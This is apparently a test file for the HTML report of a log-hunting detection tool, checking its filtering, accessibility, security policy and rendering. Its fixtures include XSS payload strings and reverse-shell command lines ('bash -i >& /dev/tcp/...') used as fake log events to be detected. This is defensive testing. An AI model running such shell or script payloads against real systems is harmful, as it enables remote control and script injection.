// timeout: 240
// The HTML page of `hikeshi hunt`, in a browser: it needs no network, tells what
// was found, filters, and shows hostile text as text.

import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { attack, FOUND_BY } from './attack.mjs';
import { english, file, folder, objects, hikeshi, rule, RULES, started, TOP } from './program.mjs';

const CHROMIUM = '/usr/bin/chromium';
let browser, chromium;

before(async () => {
	if (!existsSync(CHROMIUM)) return;
	({ chromium } = await import('playwright-core'));
	browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-gpu'] });
});
after(() => browser?.close());

/** A page of the browser with the file in it, and what it asked for and complained about. */
async function open(path, { scheme = 'light', width = 1280, height = 900, ...more } = {}) {
	const context = await browser.newContext({ viewport: { width, height }, colorScheme: scheme, timezoneId: 'America/New_York', ...more });
	const page = await context.newPage();
	const asked = [], complaints = [];
	page.on('request', (request) => asked.push(request.url()));
	page.on('console', (message) => complaints.push(message.text()));
	page.on('pageerror', (error) => complaints.push(error.message));
	await page.goto(`file://${path}`);
	return { page, asked, complaints, close: () => context.close() };
}

async function axe(page, name) {
	const evaluate = readFileSync(join(TOP, 'node_modules/axe-core/axe.min.js'), 'utf8');
	await page.evaluate(evaluate);
	const result = await page.evaluate(() => globalThis.axe.run({ runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'] }));
	assert.deepEqual(result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.html.slice(0, 160)).join(' | ')}`), [], `axe: ${name}`);
}

function hunt(name, events, ...more) {
	const path = join(folder, `${name}.html`);
	const done = hikeshi(['hunt', ...FOUND_BY, '--quiet', '--jst', '--save', path, ...more, file(`${name}.ndjson`, events)]);
	return { path, done };
}

test('the page as a file: one piece, with a policy that allows nothing from elsewhere', () => {
	const { path, done } = hunt('whole', attack({ quiet: 50 }));
	assert.equal(done.status, 0, done.err);
	const text = readFileSync(path, 'utf8');
	assert.match(text, /^<!doctype html>\n<html lang="ja">/);
	assert.match(text, /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'sha256-[\w+/=]{44}'; style-src 'sha256-[\w+/=]{44}'; base-uri 'none'; form-action 'none'">/);
	assert.doesNotMatch(text, /<(link|img|iframe|script[^>]* src)/);
	assert.match(english(0, ['hunt', '--rules', RULES, '--quiet', '--output', 'html', file('en.ndjson', attack({ quiet: 5 }))]).out, /<html lang="en">/);
	english(2, ['hunt', '--output', 'xhtml', path]);
});

test('what a person does with it', async (t) => {
	if (!browser) return t.skip('no chromium');
	const { path, done } = hunt('person', attack({ quiet: 50 }) + 'no json\n');
	assert.equal(done.status, 65);
	const { page, asked, complaints, close } = await open(path, { bypassCSP: true }); /* axe is a script */
	const rows = () => page.locator('#list tbody tr').count();

	assert.equal(await page.title(), 'Hikeshi の調査結果');
	assert.equal(await rows(), 16);
	assert.match(await page.locator('#overview').innerText(), /検知\s*16/);
	assert.match(await page.locator('#errors').innerText(), /person\.ndjson\s+66\s+66\s+/, 'the line that is no JSON');
	assert.match(await page.locator('#list tbody tr').first().innerText(), /2026-11-20 09:12:00/, "Japan's time");
	await axe(page, 'list');

	await page.click('button[data-level="critical"]');
	assert.equal(await rows(), 5);
	assert.equal(await page.getAttribute('button[data-level="critical"]', 'aria-pressed'), 'true');
	await page.click('button[data-level="critical"]');
	await page.click('button[data-technique="T1490"]');
	assert.equal(await rows(), 3);
	await page.getByRole('button', { name: '絞り込みを解除' }).click();
	await page.fill('[data-filter="text"]', '192.0.2.77');
	assert.equal(await rows(), 6);
	await page.fill('[data-filter="text"]', '');
	await page.selectOption('[data-filter="host"]', 'web01');
	assert.equal(await rows(), 4);
	await page.getByRole('button', { name: '絞り込みを解除' }).click();
	await page.fill('[data-filter="from"]', '2026-11-20T14:00:01');
	assert.equal(await rows(), 4);
	await page.getByRole('button', { name: '絞り込みを解除' }).click();
	await page.locator('svg.timeline rect.hit').last().click();
	assert.equal(await rows(), 1);
	await page.getByRole('button', { name: '絞り込みを解除' }).click();

	await page.locator('[data-detection="4"]').focus();
	await page.keyboard.press('Enter');
	const dialog = page.getByRole('dialog');
	assert.match(await dialog.innerText(), /なぜ検知したか[\s\S]*CommandLine\|contains[\s\S]*comsvcs[\s\S]*イベントの項目[\s\S]*KEIRI-PC03/);
	assert.equal(await dialog.locator('mark').first().innerText(), 'comsvcs');
	await axe(page, 'one detection');
	await page.keyboard.press('Escape');
	assert.equal(await dialog.count(), 0);
	assert.equal(await page.evaluate(() => document.activeElement.dataset.detection), '4', 'back where one was');

	await page.selectOption('#zone', 'utc');
	assert.match(await page.locator('#list tbody tr').first().innerText(), /2026-11-20 00:12:00/);
	await page.click('#language');
	assert.equal(await page.title(), 'What Hikeshi found');
	assert.match(await page.locator('#list').innerText(), /Memory With Passwords Dumped/);
	await page.click('#theme');
	assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'dark');
	await axe(page, 'dark, English');
	assert.deepEqual(asked, [`file://${path}`]);
	assert.deepEqual(complaints, []);
	await close();
});

test('on a phone, dark by the system', async (t) => {
	if (!browser) return t.skip('no chromium');
	const { path } = hunt('phone', attack({ quiet: 5 }));
	const { page, close } = await open(path, { scheme: 'dark', width: 360, height: 720, bypassCSP: true });
	assert.deepEqual(await page.evaluate(() => [...document.querySelectorAll('body *')].filter((one) => one.getBoundingClientRect().right > innerWidth && !one.closest('.scroll')).map((one) => one.outerHTML.slice(0, 80))), [], 'sticks out');
	await axe(page, 'phone');
	await close();
});

test('hostile text stays text', async (t) => {
	if (!browser) return t.skip('no chromium');
	const evil = '</script><script>window.hit=1</script><img src=x onerror="window.hit=1"><!--<script>\u2028"\'`${1}';
	const rules = file('evil.yml', rule("'</script><script>window.hit=2</script><b>'", '    s:\n        CommandLine|contains: window.hit\n    condition: s')
		+ "references:\n    - 'javascript:window.hit=3'\n    - https://example.com/\n");
	const path = join(folder, 'evil.html');
	const done = hikeshi(['hunt', '--quiet', '--rules', rules, '--save', path, file('evil.ndjson', [
		{ ...started('/bin/x', evil), Computer: evil, [evil]: evil, hikeshi: { product: 'linux', category: 'process_creation' } }, `${evil}`])]);
	assert.equal(done.status, 65);
	const { page, complaints, asked, close } = await open(path);
	assert.equal(await page.locator('#list tbody tr').count(), 1);
	assert.ok((await page.locator('#list tbody tr').innerText()).includes('<img src=x onerror='), 'as it came');
	await page.click('[data-detection="0"]');
	assert.ok((await page.getByRole('dialog').innerText()).includes('<script>window.hit=2</script>'));
	assert.deepEqual(await page.locator('dialog a').evaluateAll((links) => links.map((a) => a.href)), ['https://example.com/']);
	assert.equal(await page.evaluate(() => window.hit), undefined);
	assert.equal(await page.locator('dialog b, dialog img, #list img').count(), 0);
	assert.deepEqual(complaints, []);
	assert.deepEqual(asked, [`file://${path}`]);
	await close();
});

test('ten thousand detections are readable', async (t) => {
	if (!browser) return t.skip('no chromium');
	const many = Array.from({ length: 10000 }, (_, i) => ({ ...started('/usr/bin/bash', `bash -i >& /dev/tcp/192.0.2.${i % 250}/4444 0>&1 #${i}`),
		Computer: `pc-${i % 40}`, hikeshi: { product: 'linux', category: 'process_creation', observed: new Date(1763700000000 + i * 60000).toISOString() } }));
	const { path, done } = hunt('many', many);
	assert.equal(done.status, 0, done.err);
	const begin = Date.now();
	const { page, complaints, close } = await open(path);
	await page.waitForSelector('#list tbody tr');
	const shown = Date.now() - begin;
	assert.ok(shown < 10000, `shown after ${shown} ms`);
	assert.equal(await page.locator('#list tbody tr').count(), 100);
	assert.match(await page.locator('.pages').innerText(), /1 \/ 100 ページ/);
	await page.getByRole('button', { name: '次の 100 件' }).click();
	assert.match(await page.locator('#list tbody tr').first().innerText(), /#100\b/);
	const typed = Date.now();
	await page.fill('[data-filter="text"]', '#9999');
	assert.equal(await page.locator('#list tbody tr').count(), 1);
	assert.ok(Date.now() - typed < 5000, 'searching takes long');
	assert.deepEqual(complaints, []);
	await close();
});

test('more than a page shows are counted', () => {
	const many = file('bound.ndjson', Array.from({ length: 50001 }, (_, i) => started('/usr/bin/bash', `bash -i >& /dev/tcp/192.0.2.1/4 #${i}`)));
	const rules = file('bound.yml', rule('Bound', '    s:\n        CommandLine|contains: /dev/tcp\n    condition: s'));
	const path = join(folder, 'bound.html');
	const done = english(0, ['hunt', '--quiet', '--rules', rules, '--save', path, many]);
	assert.match(done.err, /the page shows the first 50000 of 50001 detections/);
	const list = /id="detections">(.*?)<\/script>/s.exec(readFileSync(path, 'utf8'))[1];
	assert.equal(JSON.parse(list).length, 50000);
	assert.equal(objects(english(0, ['hunt', '--quiet', '--rules', rules, '--json', many]).out).length, 50001);
});
